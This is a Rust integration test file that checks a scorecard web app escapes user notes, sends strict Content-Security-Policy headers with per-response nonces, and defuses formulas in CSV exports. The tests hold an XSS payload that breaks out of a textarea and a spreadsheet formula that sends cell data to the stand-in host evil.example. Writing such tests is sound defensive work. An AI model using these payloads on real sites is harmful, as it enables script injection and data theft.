//! What a browser is told to refuse: user text is escaped wherever it is
//! rendered (also inside raw-text elements such as `<textarea>`), and every
//! response carries a strict Content-Security-Policy whose nonce matches the
//! page's inline scripts, plus the other security headers.

use serde_json::{Value, json};

use crate::helpers::{TestApp, TestUser, on_each_backend};

const PAYLOAD: &str =
    r#""><img src=x onerror="window.__xss=1"></textarea><script>window.__xss=1</script>"#;

pub(crate) async fn post(user: &TestUser, url: String, body: Value) -> (u16, Value) {
    let r = user.client.post(&url).json(&body).send().await.unwrap();
    let status = r.status().as_u16();
    (status, r.json::<Value>().await.unwrap_or(Value::Null))
}

/// A manual measurable on a new scorecard, and the current week.
pub(crate) async fn manual_measurable(app: &TestApp, admin: &TestUser) -> (i64, String) {
    let (status, card) = post(
        admin,
        app.url("/api/v1/scorecards"),
        json!({"name": "Sales"}),
    )
    .await;
    assert_eq!(status, 201, "{card}");
    let card = card["id"].as_i64().unwrap();
    let (status, m) = post(
        admin,
        app.url(&format!("/api/v1/scorecards/{card}/measurables")),
        json!({"section": "Ops", "name": "Tickets", "source": {"type": "manual"}}),
    )
    .await;
    assert_eq!(status, 201, "{m}");
    let week = admin
        .get_json(app.url(&format!("/api/v1/scorecards/{card}")))
        .await["week"]
        .as_str()
        .unwrap()
        .to_owned();
    (m["id"].as_i64().unwrap(), week)
}

#[tokio::test]
async fn a_cell_note_is_escaped_in_the_cell_page_textarea() {
    on_each_backend(|app| async move {
        let admin = app.admin("Acme", "ann@acme.test").await;
        let (id, week) = manual_measurable(&app, &admin).await;
        let (status, body) = post(
            &admin,
            app.url(&format!("/api/v1/measurables/{id}/notes")),
            json!({"week": week, "note": PAYLOAD}),
        )
        .await;
        assert_eq!(status, 204, "{body}");
        let html = admin
            .get(app.url(&format!("/scorecard/cell?measurable={id}&week={week}")))
            .await
            .text()
            .await
            .unwrap();
        assert!(!html.contains("<img src=x"), "unescaped note in:\n{html}");
        assert!(!html.contains("<script>window.__xss"), "unescaped note");
        // The textarea holds the note as (escaped) text.
        let escaped = "&lt;/textarea&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;";
        let textarea = html
            .split("<textarea")
            .nth(1)
            .and_then(|t| t.split("</textarea>").next())
            .unwrap();
        assert!(textarea.contains(escaped), "{textarea}");
    })
    .await;
}

/// The headers every response carries; returns the policy's nonce.
fn security_headers(r: &reqwest::Response) -> String {
    let what = format!("{} {}", r.status(), r.url().path());
    let h = r.headers();
    assert_eq!(h["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(
        h["referrer-policy"], "strict-origin-when-cross-origin",
        "{what}"
    );
    assert_eq!(h["x-frame-options"], "DENY", "{what}");
    let csp = h
        .get("content-security-policy")
        .unwrap_or_else(|| panic!("no CSP on {what}"))
        .to_str()
        .unwrap()
        .to_owned();
    let nonce = csp
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .unwrap_or_else(|| panic!("no nonce in {csp}"))
        .to_owned();
    assert_eq!(
        csp,
        format!(
            "default-src 'self'; script-src 'self' 'nonce-{nonce}' 'wasm-unsafe-eval'; \
             style-src 'self'; img-src 'self' data:; connect-src 'self'; object-src 'none'; \
             base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
        ),
        "{what}"
    );
    assert!(nonce.len() >= 22, "a 128-bit nonce: {nonce}");
    nonce
}

/// Every `<script>` of a page carries `nonce`; returns how many there are.
fn scripts_carry(html: &str, nonce: &str) -> usize {
    let tags: Vec<&str> = html
        .split("<script")
        .skip(1)
        .map(|t| t.split('>').next().unwrap())
        .collect();
    for tag in &tags {
        assert!(
            tag.contains(&format!("nonce=\"{nonce}\"")),
            "<script{tag}> lacks nonce {nonce}"
        );
    }
    tags.len()
}

#[tokio::test]
async fn every_response_has_a_strict_policy_whose_nonce_matches_the_page() {
    on_each_backend(|app| async move {
        let admin = app.admin("Acme", "ann@acme.test").await;

        // A page: its inline scripts carry this response's nonce.
        let first = admin.get(app.url("/")).await;
        assert_eq!(first.status(), 200);
        let nonce = security_headers(&first);
        assert!(scripts_carry(&first.text().await.unwrap(), &nonce) >= 1);
        // The next response has a nonce of its own.
        let second = admin.get(app.url("/settings")).await;
        let other = security_headers(&second);
        assert_ne!(nonce, other);
        assert!(scripts_carry(&second.text().await.unwrap(), &other) >= 1);

        // A page that does not exist (rendered by the fallback).
        let missing = admin.get(app.url("/no-such-page")).await;
        assert_eq!(missing.status(), 404);
        let n = security_headers(&missing);
        assert!(scripts_carry(&missing.text().await.unwrap(), &n) >= 1);

        // The API, its 404, a server function and a redirect.
        for (path, status) in [
            ("/api/v1/me", 200),
            ("/api/v1/no-such-thing", 404),
            ("/healthz", 200),
        ] {
            let r = admin.get(app.url(path)).await;
            assert_eq!(r.status(), status, "{path}");
            security_headers(&r);
        }
        let signed_out = crate::helpers::client()
            .get(app.url("/settings"))
            .send()
            .await
            .unwrap();
        assert_eq!(signed_out.status(), 303);
        security_headers(&signed_out);
    })
    .await;
}

#[tokio::test]
async fn the_demo_sandbox_pages_get_a_policy_that_allows_their_own_style() {
    let Some(app) =
        crate::helpers::spawn_app(server::db::Backend::Sqlite, &["--demo", "true"]).await
    else {
        return;
    };
    // A consent error page (no client id): HTML with an inline <style>.
    let r = crate::helpers::client()
        .get(app.url("/sandbox/hubspot/oauth/authorize"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_eq!(r.headers()["x-frame-options"], "DENY");
    let html = r.text().await.unwrap();
    let style = html
        .split("<style>")
        .nth(1)
        .and_then(|s| s.split("</style>").next())
        .expect("the page's style");
    use base64::Engine as _;
    use sha2::Digest as _;
    let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(style));
    assert_eq!(
        csp,
        format!(
            "default-src 'none'; style-src 'sha256-{hash}'; img-src 'self' data:; \
             form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
        )
    );
}

#[tokio::test]
async fn exported_csv_cells_cannot_run_as_spreadsheet_formulas() {
    on_each_backend(|app| async move {
        let admin = app.admin("Acme", "ann@acme.test").await;
        let (status, card) =
            post(&admin, app.url("/api/v1/scorecards"), json!({"name": "S"})).await;
        assert_eq!(status, 201);
        let card = card["id"].as_i64().unwrap();
        let name = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
        let (status, m) = post(
            &admin,
            app.url(&format!("/api/v1/scorecards/{card}/measurables")),
            json!({"section": "@Ops", "name": name, "source": {"type": "manual"}}),
        )
        .await;
        assert_eq!(status, 201, "{m}");
        let csv = admin
            .get(app.url(&format!("/api/v1/scorecards/{card}/export.csv")))
            .await
            .text()
            .await
            .unwrap();
        let row = csv.lines().nth(1).unwrap();
        assert!(
            row.starts_with(r#"'@Ops,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","#),
            "{row}"
        );
    })
    .await;
}
